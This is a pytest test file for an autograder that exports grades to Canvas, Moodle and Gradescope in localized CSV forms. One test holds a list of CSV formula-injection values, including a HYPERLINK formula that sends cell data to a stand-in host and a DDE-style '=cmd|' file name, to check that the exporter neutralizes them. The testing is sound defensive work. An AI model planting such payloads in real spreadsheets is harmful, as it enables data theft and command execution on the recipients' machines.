"""A class in the names, locales and forms each LMS really writes goes round the trip (download, discovery, the
gradebook, the export, the LMS's own import) and every student's LMS grade is what their work earned, while
every grade the grader has no work for (excused, entered by hand, blank) stays as the LMS has it. Each export
is judged by tests/lms_importers.py, small re-implementations of the LMS importers' matching and change
rules. The fixtures (tests/fixtures/lms/*_sv.csv, *_es.csv, *_split.csv, *_anonymous.csv, canvas_groups.csv)
are written as each LMS's exporter writes (canvas-lms lib/gradebook_exporter.rb with CSVWithI18n, moodle's
gradingtable.php), in their own data; the download names as Canvas's content_zipper.rb and Moodle's
downloader.php name files."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from conftest import CORRECT_ENGINES, HERE, csv_rows
from lms_importers import (
    CanvasCourse,
    MoodleAssignment,
    canvas_comments,
    canvas_import,
    moodle_feedback,
    moodle_import,
)

from grader import catalog, csvfile
from grader.batch import export
from grader.batch.discover import discover
from grader.batch.everyone import everyone
from grader.batch.outputs import Row, write_class_outputs
from grader.errors import UsageError
from grader.files import REPORT_FILE, RESULT_FILE
from grader.lms import groups, numbers, roster, writeback
from grader.lms.identity import Identity, from_file_name
from grader.render import html
from grader.result import Result

LMS = HERE / "fixtures" / "lms"
ENGINE = CORRECT_ENGINES[0].read_text()
TESTS = "def test_add():\n    pass\n"
MICROGRAD = catalog.load("micrograd")


def _result(name: str, score: float) -> Result:
    return Result(name, "0" * 64, "micrograd", "0", "graded", None, score, 20.0, 1.0, ())


def _graded_class(tmp_path: Path, found, scores: dict[str, float], class_list, penalty: dict | None = None) -> Path:
    """The --out folder a batch writes for these submissions with these scores: each student's result.json and
    report, then the gradebook and summary through the batch's own writers (everyone(), write_class_outputs)."""
    out = tmp_path / "out"
    rows = []
    for sub in found.submissions:
        result = _result(sub.path.name, scores[sub.student])
        folder = out / "students" / sub.student
        folder.mkdir(parents=True)
        (folder / RESULT_FILE).write_text(json.dumps(result.to_dict()))
        (folder / REPORT_FILE).write_text(html.student_report(result))
        cut = (penalty or {}).get(sub.student, 0.0)
        rows.append(
            Row(
                sub.student,
                sub.late,
                result,
                False,
                sub.path.name,
                f"students/{sub.student}",
                [],
                sub.identity,
                penalty=cut,
            )
        )
    rows = everyone(rows, found.missing, class_list, out / "students", MICROGRAD)
    write_class_outputs(out, MICROGRAD, sorted(rows, key=lambda r: r.student), ())
    return out


def test_canvas_download_names_in_every_script(tmp_path):
    """Canvas keeps Unicode letters in a download's name (content_zipper.rb removes non-word characters only):
    José, Zoë, Müller, Nguyễn, 王 and O'Brien are read by their ids, a name holding `_` too, `_LATE` (newer
    Canvas) and `_late` both mark lateness, and a student's second attachment (their tests) goes with their
    engine instead of becoming a student of its own."""
    names = {
        "garcíamárquezjosé_22222_90001_micrograd_mine.py": ("garcíamárquezjosé", "22222", "90001", False),
        "müllerzoë_22223_90005_micrograd_mine.py": ("müllerzoë", "22223", "90005", False),
        "nguyễnvănan_22224_90006_micrograd_mine.py": ("nguyễnvănan", "22224", "90006", False),
        "王小明_22225_90003_micrograd_mine.py": ("王小明", "22225", "90003", False),
        "obrienpat_LATE_22226_90004_micrograd_mine.py": ("obrienpat", "22226", "90004", True),
        "smithann_marie_late_22227_90007_micrograd_2_final.py": ("smithann_marie", "22227", "90007", True),
        "12monkeys_22228_90008_x.py": ("12monkeys", "22228", "90008", False),
    }
    for name, (who, uid, sub, is_late) in names.items():
        identity, _file = from_file_name(name)
        assert (identity.lms, identity.name, identity.user_id, identity.submission_id, identity.late) == (
            "canvas",
            who,
            uid,
            sub,
            is_late,
        ), name
    assert from_file_name("smithann_marie_late_22227_90007_micrograd_2_final.py")[1] == "micrograd_2_final.py"
    cls = tmp_path / "download"
    cls.mkdir()
    (cls / "garcíamárquezjosé_22222_90001_micrograd_mine.py").write_text(ENGINE)
    (cls / "garcíamárquezjosé_22222_90002_test_micrograd.py").write_text(TESTS)
    (cls / "王小明_22225_90003_micrograd_mine.py").write_text(ENGINE)
    found = discover([cls], tmp_path / "staging")
    by_id = {s.identity.user_id: s for s in found.submissions}
    assert set(by_id) == {"22222", "22225"} and not found.missing
    assert by_id["22222"].tests is not None and by_id["22222"].tests.read_text() == TESTS
    assert by_id["22222"].student == "garciamarquezjose" and by_id["22225"].identity.name == "王小明"


def _canvas_course() -> CanvasCourse:
    return CanvasCourse(
        {
            22222: "García Márquez, José",
            22223: "Müller, Zoë",
            22224: "Nguyễn, Văn An",
            22225: "王, 小明",
            22226: "O'Brien, Pat",
            22227: "Smith, Ann_Marie",
            99999: "Student, Test",
        },
        {5501: ("Micrograd-motor", 10.0), 5502: ("Läsquiz 2", 4.0)},
        {(22223, 5501): "EX", (22224, 5501): "7.5", (22222, 5502): "3.5"},
        {22222: {90001, 90002}, 22225: {90003}, 22226: {90004}},
    )


def test_a_swedish_canvas_class_round_trips(tmp_path, capsys):
    """A Swedish gradebook export (`;`, `10,00`): every graded student's Canvas grade is their score scaled to
    10 points and written `8,50`; the excused student (EX), the grade entered by hand (7,50), and the blank
    cell of a student with no submission are given back as read, so Canvas's importer sees no change; the
    Points Possible cell is given back as read (no rescaling); the last line counts what changed; the
    comments zip reaches each graded student by user and attachment id."""
    cls = tmp_path / "download"
    cls.mkdir()
    (cls / "garcíamárquezjosé_22222_90001_micrograd_mine.py").write_text(ENGINE)
    (cls / "garcíamárquezjosé_22222_90002_test_micrograd.py").write_text(TESTS)
    (cls / "王小明_22225_90003_micrograd_mine.py").write_text(ENGINE)
    (cls / "obrienpat_LATE_22226_90004_micrograd_mine.py").write_text(ENGINE)
    found = discover([cls], tmp_path / "staging")
    class_list = roster.read(LMS / "canvas_gradebook_sv.csv")
    assert class_list.delimiter == ";" and len(class_list.students) == 6  # the test student left out
    ids = {s.identity.user_id: s.student for s in found.submissions}
    out = _graded_class(
        tmp_path, found, {ids["22222"]: 17.0, ids["22225"]: 20.0, ids["22226"]: 16.0}, class_list, {ids["22226"]: 1.6}
    )
    grades = {r["lms_user_id"]: r for r in csv_rows(out / "grades.csv")}
    assert len(grades) == 6 and grades["22223"]["status"] == "no_submission"
    target = tmp_path / "import.csv"
    sv = dict(
        assignment="micrograd", graded=out, roster=LMS / "canvas_gradebook_sv.csv", column="Micrograd-motor (5501)"
    )
    export.main(target="canvas", out=target, **sv)
    text = target.read_text()
    assert text.splitlines()[1] == "    Points Possible;;;;;10,00" and ";8,50" in text
    course = _canvas_course()
    imported = canvas_import(text, course)
    assert imported.assignments == {5501: "Micrograd-motor"} and imported.points == {5501: "10.00"}
    assert imported.new_students == []
    assert imported.changes == {(22222, 5501): "8.50", (22225, 5501): "10.00", (22226, 5501): "7.20"}
    assert "3 grades changed, 0 already as graded, 3 left as the LMS has them (3 with no submission)" in (
        capsys.readouterr().out
    )
    export.main(target="canvas", out=target, **sv, zero_missing=True)
    changes = canvas_import(target.read_text(), course).changes
    assert changes[(22227, 5501)] == "0.00" and (22223, 5501) not in changes and (22224, 5501) not in changes
    feedback = tmp_path / "feedback.zip"
    export.main(target="feedback", out=feedback, assignment="micrograd", graded=out)
    reached, ignored = canvas_comments(feedback.read_bytes(), course)
    assert set(reached) == {22222, 22225, 22226} and not ignored
    assert all(name.isascii() for name in reached.values())


def test_canvas_split_names_percent_and_points_that_cannot_be_read(tmp_path):
    """A LastName, FirstName export is given back in its own columns; --percent writes `85.00%`; a column whose
    Points Possible cannot be read stops the export (exit 2) naming the cell, never the grader's maximum."""
    cls = tmp_path / "download"
    cls.mkdir()
    (cls / "leejohn_31001_91001_micrograd_mine.py").write_text(ENGINE)
    found = discover([cls], tmp_path / "staging")
    class_list = roster.read(LMS / "canvas_gradebook_split.csv")
    assert [s.name for s in class_list.students] == ["Lee, John", "Lee, John", "Okafor, Chidi"]
    out = _graded_class(tmp_path, found, {"leejohn": 17.0}, class_list)
    target = tmp_path / "import.csv"
    export.main(
        target="canvas", out=target, assignment="micrograd", graded=out, roster=LMS / "canvas_gradebook_split.csv"
    )
    course = CanvasCourse(
        {31001: "Lee, John", 31002: "Lee, John", 31003: "Okafor, Chidi"},
        {6601: ("Micrograd engine", 20.0)},
        {(31002, 6601): "12", (31003, 6601): "EX"},
    )
    assert (
        target.read_text().splitlines()[0]
        == "LastName,FirstName,ID,SIS User ID,SIS Login ID,Section,Micrograd engine (6601)"
    )
    assert canvas_import(target.read_text(), course).changes == {(31001, 6601): "17.00"}
    export.main(
        target="canvas",
        out=target,
        assignment="micrograd",
        graded=out,
        roster=LMS / "canvas_gradebook_split.csv",
        percent=True,
    )
    assert target.read_text().splitlines()[2].endswith(",85.00%")
    broken = tmp_path / "broken.csv"
    broken.write_text((LMS / "canvas_gradebook_split.csv").read_text().replace(",20.00\n", ",twenty\n"))
    with pytest.raises(UsageError, match=r"Points Possible row of column 'Micrograd engine \(6601\)' holds 'twenty'"):
        export.main(target="canvas", out=target, assignment="micrograd", graded=out, roster=broken)


def test_numbers_as_the_lms_writes_them():
    """The last separator is the decimal one (Canvas's importer's rule); a number goes back in the form read."""
    assert numbers.parse("10,00") == (10.0, numbers.Form(",", 2))
    assert numbers.parse("1.234,5") == (1234.5, numbers.Form(",", 1))
    assert numbers.parse("85.5%")[0] == 85.5 and numbers.parse("-2.00")[0] == -2.0
    assert [numbers.parse(c) for c in ("", "EX", "-", "N/A", "(read only)", "1e5", "nan")] == [None] * 7
    assert numbers.Form(",", 2).write(7.2) == "7,20" and numbers.Form(".", 2).write(85.0, percent=True) == "85.00%"


def test_a_spanish_moodle_worksheet_round_trips(tmp_path):
    """A Moodle worksheet in Spanish (`Identificador`, `Calificación`, `Participante 771001`, `10,00`) is read by
    its identifier column and its columns by position; the worksheet comes back whole with each graded
    student's grade in its own form, the hand-entered 8,50 and the blank of a student with no submission as
    read; Moodle's importer (its localized column names, its skip rules) sets exactly the graded ones, and its
    feedback zip reaches them by participant id."""
    cls = tmp_path / "download"
    for folder, tests in (
        ("José García Márquez_771001_assignsubmission_file", True),
        ("王 小明_771002_assignsubmission_file", False),
    ):
        (cls / folder).mkdir(parents=True)
        (cls / folder / "micrograd_mine.py").write_text(ENGINE)
        if tests:
            (cls / folder / "test_micrograd.py").write_text(TESTS)
    found = discover([cls], tmp_path / "staging")
    class_list = roster.read(LMS / "moodle_worksheet_es.csv")
    assert class_list.lms == "moodle" and class_list.columns["grade"] == 4 and class_list.columns["maximum"] == 5
    assert [s.user_id for s in class_list.students] == ["771001", "771002", "771003", "771004"]
    assert class_list.students[1].name == "王 小明" and class_list.students[0].email == "jose.garcia@example.es"
    ids = {s.identity.user_id: s.student for s in found.submissions}
    out = _graded_class(tmp_path, found, {ids["771001"]: 15.0, ids["771002"]: 20.0}, class_list)
    target = tmp_path / "worksheet.csv"
    export.main(target="moodle", out=target, assignment="micrograd", graded=out, roster=LMS / "moodle_worksheet_es.csv")
    got = list(csv.reader(io.StringIO(target.read_text())))
    assert [row[4] for row in got[1:]] == ["7,50", "10,00", "8,50", ""]
    read = list(csv.reader(io.StringIO((LMS / "moodle_worksheet_es.csv").read_text())))
    assert [r[:4] + r[5:] for r in got] == [r[:4] + r[5:] for r in read]  # every other cell as read
    assignment = MoodleAssignment(
        {
            "grade": "Calificación",
            "recordid": "Identificador",
            "lastmodifiedgrade": "Última modificación (calificación)",
            "hiddenuser": "Participante ",
        },
        ",",
        10.0,
        {771001: 501, 771002: 502, 771003: 503, 771004: 504},
        {503: (8.5, "martes, 3 de marzo de 2026, 16:40")},
    )
    assert moodle_import(target.read_text(), assignment) == {501: 7.5, 502: 10.0}
    feedback = tmp_path / "feedback.zip"
    export.main(target="feedback", out=feedback, assignment="micrograd", graded=out)
    assert set(moodle_feedback(feedback.read_bytes(), assignment.participants)) == {501, 502}
    with zipfile.ZipFile(feedback) as zf:
        assert all(n.isascii() for n in zf.namelist())


def test_an_anonymous_moodle_worksheet(tmp_path):
    """Blind marking: the download names each folder `Participant_<id>_...`, the worksheet has no names; the
    grade still reaches the participant."""
    cls = tmp_path / "download"
    (cls / "Participant_881101_assignsubmission_file").mkdir(parents=True)
    (cls / "Participant_881101_assignsubmission_file" / "micrograd_mine.py").write_text(ENGINE)
    found = discover([cls], tmp_path / "staging")
    class_list = roster.read(LMS / "moodle_worksheet_anonymous.csv")
    assert [s.user_id for s in class_list.students] == ["881101", "881102"]
    out = _graded_class(tmp_path, found, {found.submissions[0].student: 10.0}, class_list)
    target = tmp_path / "worksheet.csv"
    export.main(
        target="moodle", out=target, assignment="micrograd", graded=out, roster=LMS / "moodle_worksheet_anonymous.csv"
    )
    strings = {
        "grade": "Grade",
        "recordid": "Identifier",
        "lastmodifiedgrade": "Last modified (grade)",
        "hiddenuser": "Participant ",
    }
    assert moodle_import(target.read_text(), MoodleAssignment(strings, ".", 20.0, {881101: 1, 881102: 2})) == {1: 10.0}


METADATA = """---
submission_300001:
  :submitters:
  - :name: Zoë Müller
    :sid: '5001'
    :email: zoe.muller@example.edu
  :created_at: 2026-03-01 10:00:00.000000000 +01:00
submission_300002:
  :submitters:
  - :name: 王小明
    :sid: '5002'
    :email: xiaoming@example.edu
  - :name: Pat O'Brien
    :sid: '5003'
    :email: pat.obrien@example.edu
  :created_at: 2026-03-01 11:00:00.000000000 +01:00
"""


def test_a_zipped_gradescope_export_with_a_group(tmp_path):
    """Gradescope's "Export Submissions" zip, as downloaded (assignment_<id>_export.zip holding
    submission_metadata.yml): zipped and unzipped give the same students, SIDs and group; the group's other
    member gets the group's grade and report."""
    folder = tmp_path / "assignment_4242_export"
    for sub in ("submission_300001", "submission_300002"):
        (folder / sub).mkdir(parents=True)
        (folder / sub / "engine.py").write_text(ENGINE)
    (folder / "submission_metadata.yml").write_text(METADATA)
    archive = tmp_path / "assignment_4242_export.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for path in sorted(folder.rglob("*")):
            zf.write(path, str(path.relative_to(tmp_path)))

    def seen(found):
        return sorted(
            (s.student, s.identity.user_id, s.identity.submission_id, [m.user_id for m in s.identity.group])
            for s in found.submissions
        )

    zipped, unzipped = discover([archive], tmp_path / "s1"), discover([folder], tmp_path / "s2")
    assert (
        seen(zipped)
        == seen(unzipped)
        == [
            ("Zoe_Muller", "5001", "300001", []),
            ("gradescope-5002", "5002", "300002", ["5003"]),
        ]
    )
    rows = [
        Row(s.student, False, _result("engine.py", 18.0), False, "engine.py", f"students/{s.student}", [], s.identity)
        for s in zipped.submissions
    ]
    rows = everyone(rows, (), None, tmp_path / "out" / "students", MICROGRAD)
    member = next(r for r in rows if r.identity.user_id == "5003")
    group = next(r for r in rows if r.identity.user_id == "5002")
    assert member.score == 18.0 and member.folder == group.folder


def test_canvas_groups_place_every_member(tmp_path, capsys):
    """A Canvas group assignment downloads the file of whoever submitted for the group. With --groups (Canvas's
    group set export) every member gets the group's grade and the report, named so Canvas's comments upload
    reaches them; without it, the other member's cell is left as the LMS has it, never 0."""
    cls = tmp_path / "download"
    cls.mkdir()
    (cls / "leejohn_31001_91001_micrograd_mine.py").write_text(ENGINE)
    found = discover([cls], tmp_path / "staging")
    teams = groups.read(LMS / "canvas_groups.csv")
    placed, notes = groups.apply(teams, found.submissions)
    assert [m.user_id for m in placed[0].identity.group] == ["31002"] and not notes
    found = type(found)(placed, found.notes, found.missing)
    class_list = roster.read(LMS / "canvas_gradebook_split.csv")
    out = _graded_class(tmp_path, found, {"leejohn": 16.0}, class_list)
    target = tmp_path / "import.csv"
    export.main(
        target="canvas", out=target, assignment="micrograd", graded=out, roster=LMS / "canvas_gradebook_split.csv"
    )
    course = CanvasCourse(
        {31001: "Lee, John", 31002: "Lee, John", 31003: "Okafor, Chidi"},
        {6601: ("Micrograd engine", 20.0)},
        {(31002, 6601): "12", (31003, 6601): "EX"},
        {31001: {91001}, 31002: {91001}},
    )
    assert canvas_import(target.read_text(), course).changes == {(31001, 6601): "16.00", (31002, 6601): "16.00"}
    feedback = tmp_path / "feedback.zip"
    export.main(target="feedback", out=feedback, assignment="micrograd", graded=out)
    reached, ignored = canvas_comments(feedback.read_bytes(), course)
    assert set(reached) == {31001, 31002} and not ignored


def test_an_unmatched_student_stops_the_export_until_paired(tmp_path):
    """Work from a plain folder the roster does not name would lose its grade: the export stops (exit 2) naming
    the likely roster row; --map pairs them; --allow-unmatched exports without it."""
    cls = tmp_path / "download"
    cls.mkdir()
    (cls / "chidi_okafor.py").write_text(ENGINE)
    (cls / "leejohn_31001_91001_micrograd_mine.py").write_text(ENGINE)
    found = discover([cls], tmp_path / "staging")
    split = tmp_path / "gradebook.csv"  # Chidi not excused here
    split.write_text((LMS / "canvas_gradebook_split.csv").read_text().replace(",EX\n", ",\n"))
    class_list = roster.read(split)
    out = _graded_class(tmp_path, found, {"chidi_okafor": 20.0, "leejohn": 10.0}, class_list)
    target = tmp_path / "import.csv"
    options = dict(target="canvas", out=target, assignment="micrograd", graded=out, roster=split)
    with pytest.raises(UsageError, match=r"chidi_okafor \(likely 'Okafor, Chidi', canvas id 31003\).*--map FILE"):
        export.main(**options)
    assert not target.exists()
    pairs = tmp_path / "map.csv"
    pairs.write_text("student,roster id\nchidi_okafor,31003\n")
    export.main(**options, mapping=pairs)
    course = CanvasCourse(
        {31001: "Lee, John", 31002: "Lee, John", 31003: "Okafor, Chidi"},
        {6601: ("Micrograd engine", 20.0)},
        {(31002, 6601): "12"},
    )
    assert canvas_import(target.read_text(), course).changes == {(31003, 6601): "20.00", (31001, 6601): "10.00"}
    export.main(**options, allow_unmatched=True)
    assert canvas_import(target.read_text(), course).changes == {(31001, 6601): "10.00"}


HOSTILE = ['=HYPERLINK("https://evil.example/?d="&C2,"open")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1", "\r=1", " =1"]


def test_every_csv_cell_is_data_never_a_formula(tmp_path):
    """One writer for every CSV: a roster's display names and a student's file names that would start a formula
    are written with a quote in front, in the Canvas import, gradescope-csv and the gradebook; numbers stay
    numbers (a negative the grader wrote too); names in the feedback zip are safe characters only."""
    assert [csvfile.cell(v) for v in (-1.5, 3, "-1.5", "7,50", "85.5%", "-", "EX", "")] == [
        "-1.5",
        "3",
        "-1.5",
        "7,50",
        "85.5%",
        "-",
        "EX",
        "",
    ]
    assert all(csvfile.cell(h).startswith("'") for h in HOSTILE)
    rows = ["First Name,Last Name,SID,Email,Role"] + [
        f'"{h.replace(chr(34), chr(34) * 2)}",X,{7000 + i},s{i}@example.edu,Student' for i, h in enumerate(HOSTILE)
    ]
    (tmp_path / "roster.csv").write_text("\n".join(rows) + "\n")
    gradescope = roster.read(tmp_path / "roster.csv")
    cls = tmp_path / "download"
    cls.mkdir()
    (cls / "=cmd|'!A0.zip").write_text("not a zip")
    (cls / "7000.py").write_text(ENGINE)
    found = discover([cls], tmp_path / "staging")
    out = _graded_class(tmp_path, found, {"7000": 20.0}, gradescope)
    export.main(
        target="gradescope-csv",
        out=tmp_path / "g.csv",
        assignment="micrograd",
        graded=out,
        roster=tmp_path / "roster.csv",
        allow_unmatched=True,  # the unreadable zip's student is on no roster row
    )
    canvas_rows = ["Student,ID,SIS User ID,SIS Login ID,Section,Engine (1)", "    Points Possible,,,,,10.00"] + [
        f'"{h.replace(chr(34), chr(34) * 2)}",{8000 + i},,,S,' for i, h in enumerate(HOSTILE)
    ]
    (tmp_path / "canvas.csv").write_text("\n".join(canvas_rows) + "\n")
    text = export.canvas(roster.read(tmp_path / "canvas.csv"), {}, 20.0, None, writeback.Options(), writeback.Tally())
    (tmp_path / "c.csv").write_text(text)
    with open(out / "grades.csv", newline="") as f:
        grades = list(csv.reader(f))
    assert any("=cmd" in cell for row in grades for cell in row)  # the file's name is there, as data
    for path in (tmp_path / "g.csv", tmp_path / "c.csv", out / "grades.csv"):
        with open(path, newline="") as f:
            rows = list(csv.reader(f))
        for row in rows:
            for cell in row:
                assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                assert not cell.startswith("-") or numbers.is_number(cell), (path.name, cell)
    name = export.feedback_name("x", Identity("canvas", '=HYPERLINK("../../x")', "1", "2"))
    assert name == "hyperlinkx_1_2_feedback.html"
    name = export.feedback_name("x", Identity("moodle", "../=王 Ann_Lee", "9"))
    assert name == "AnnLee_9_assignsubmission_file_feedback.html"
    assert export.feedback_name("../x", Identity("canvas", "a", "1x", "2")) == "x/feedback.html"


def test_semicolon_detection_as_canvas_does():
    assert roster.separator("a;b;c\n1;2,5;3\n") == ";" and roster.separator('a,b,c\n1,"2;5",3\n') == ","


TINY = """id = "tiny"
version = "1"
title = "Micrograd engine"
[limits]
request_s = 3.0
[search]
max_examples = 10
[checks]
forward = { points = 10 }
"""


def _batch(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "grader.cli", "batch", *args], capture_output=True, text=True, timeout=600
    )


def test_the_gradebook_is_always_the_whole_class(tmp_path):
    """Three batches as an instructor runs them, into one --out that lies inside the download folder: the first
    grades the class; the second (the same command) does not read its own --out as a student; a late student
    graded alone later joins the class, in grades.csv and on the class page; the Canvas export then gives
    every graded student their grade and leaves the rest as Canvas has them."""
    (tmp_path / "tiny").mkdir()
    (tmp_path / "tiny" / "assignment.toml").write_text(TINY)
    gradebook = tmp_path / "gradebook.csv"
    gradebook.write_text(
        "Student,ID,SIS User ID,SIS Login ID,Section,Engine (7701)\n    Points Possible,,,,,10.00\n"
        '"García Márquez, José",40001,,jgarcia,A,\n"王, 小明",40002,,xwang,A,\n"Müller, Zoë",40003,,zmuller,A,EX\n'
        '"Okafor, Chidi",40004,,cokafor,A,4.00\n"Lovelace, Ada",40005,,ada,A,\n'
    )
    cls = tmp_path / "download"
    cls.mkdir()
    (cls / "garcíamárquezjosé_40001_95001_micrograd_mine.py").write_text(ENGINE)
    (cls / "garcíamárquezjosé_40001_95002_test_micrograd.py").write_text(TESTS)
    (cls / "王小明_40002_95003_micrograd_mine.py").write_text(ENGINE)
    (cls / "ada").mkdir()  # a plain student folder (her login): the download is a folder of students' folders
    (cls / "ada" / "micrograd_mine.py").write_text(ENGINE)
    out = cls / "graded"
    command = [
        str(cls),
        "--out",
        str(out),
        "--jobs",
        "2",
        "--assignment",
        str(tmp_path / "tiny"),
        "--roster",
        str(gradebook),
    ]
    first = _batch(*command)
    assert first.returncode == 0, first.stderr[-3000:]
    second = _batch(*command)
    assert second.returncode == 0, second.stderr[-3000:]
    assert "3 submissions: 3 graded, 0 could not be graded (3 unchanged since the last run)" in second.stdout
    assert "the batch's own --out folder" in second.stderr
    late_dir = tmp_path / "late"
    late_dir.mkdir()
    (late_dir / "okaforchidi_LATE_40004_95009_micrograd_mine.py").write_text(ENGINE)
    third = _batch(str(late_dir), *command[1:])
    assert third.returncode == 0, third.stderr[-3000:]
    grades = {r["lms_user_id"]: r for r in csv_rows(out / "grades.csv")}
    assert set(grades) == {"40001", "40002", "40003", "40004", "40005"}
    assert [grades[i]["status"] for i in ("40001", "40002", "40003", "40004", "40005")] == [
        "graded",
        "graded",
        "no_submission",
        "graded",
        "graded",
    ]
    assert grades["40004"]["late"] == "yes" and "graded" not in {r["student"] for r in grades.values()}
    summary = json.loads((out / "summary.json").read_text())
    assert len(summary["students"]) == 5 and "okaforchidi" in (out / "index.html").read_text()
    target = tmp_path / "import.csv"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "grader.cli",
            "export",
            "canvas",
            "--from",
            str(out),
            "--roster",
            str(gradebook),
            "--out",
            str(target),
        ],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    assert "4 grades changed" in done.stdout and "1 left as the LMS has them" in done.stdout
    course = CanvasCourse(
        {
            40001: "García Márquez, José",
            40002: "王, 小明",
            40003: "Müller, Zoë",
            40004: "Okafor, Chidi",
            40005: "Lovelace, Ada",
        },
        {7701: ("Engine", 10.0)},
        {(40003, 7701): "EX", (40004, 7701): "4"},
    )
    assert canvas_import(target.read_text(), course).changes == {
        (40001, 7701): "10.00",
        (40002, 7701): "10.00",
        (40004, 7701): "10.00",
        (40005, 7701): "10.00",
    }


def test_a_moodle_team_submission(tmp_path, capsys):
    """A Moodle team submission's folder is named by the group (its name and the group's id, not a
    participant's). Without --groups the export stops on it (it matches no participant); exported without it,
    the members' cells stay as Moodle has them and the last line counts them as group members not placed.
    With --groups (here the team worksheet itself, whose `Group` column names each member's group) both
    members get the group's grade."""
    worksheet = tmp_path / "worksheet.csv"
    worksheet.write_text(
        "Identifier,Full name,Email address,Status,Group,Grade,Maximum Grade,Grade can be changed,"
        "Last modified (submission),File submissions,Last modified (grade),Feedback comments\n"
        '"Participant 991001",Ada Byron,ada@example.edu,"Submitted for grading",Team_Tanh,,10.00,Yes,-,,-,\n'
        '"Participant 991002",Alan Turing,alan@example.edu,"Submitted for grading",Team_Tanh,,10.00,Yes,-,,-,\n'
    )
    cls = tmp_path / "download"
    (cls / "Team Tanh_55_assignsubmission_file").mkdir(parents=True)
    (cls / "Team Tanh_55_assignsubmission_file" / "micrograd_mine.py").write_text(ENGINE)
    class_list = roster.read(worksheet)
    assert [s.team for s in class_list.students] == ["Team_Tanh", "Team_Tanh"]
    found = discover([cls], tmp_path / "staging")
    out = _graded_class(tmp_path, found, {found.submissions[0].student: 14.0}, class_list)
    target = tmp_path / "graded.csv"
    options = dict(target="moodle", out=target, assignment="micrograd", graded=out, roster=worksheet)
    with pytest.raises(UsageError, match="match no row of the roster"):
        export.main(**options)
    export.main(**options, allow_unmatched=True)
    assert "2 left as the LMS has them (2 in a group the grader could not place)" in capsys.readouterr().out
    strings = {
        "grade": "Grade",
        "recordid": "Identifier",
        "lastmodifiedgrade": "Last modified (grade)",
        "hiddenuser": "Participant ",
    }
    assignment = MoodleAssignment(strings, ".", 10.0, {991001: 1, 991002: 2})
    assert moodle_import(target.read_text(), assignment) == {}
    placed, _ = groups.apply(groups.read(worksheet), found.submissions)
    assert placed[0].identity.user_id == "991001" and [m.user_id for m in placed[0].identity.group] == ["991002"]
    found = type(found)(placed, found.notes, found.missing)
    out = _graded_class(tmp_path / "again", found, {found.submissions[0].student: 14.0}, class_list)
    export.main(**{**options, "graded": out})
    assert moodle_import(target.read_text(), assignment) == {1: 7.0, 2: 7.0}
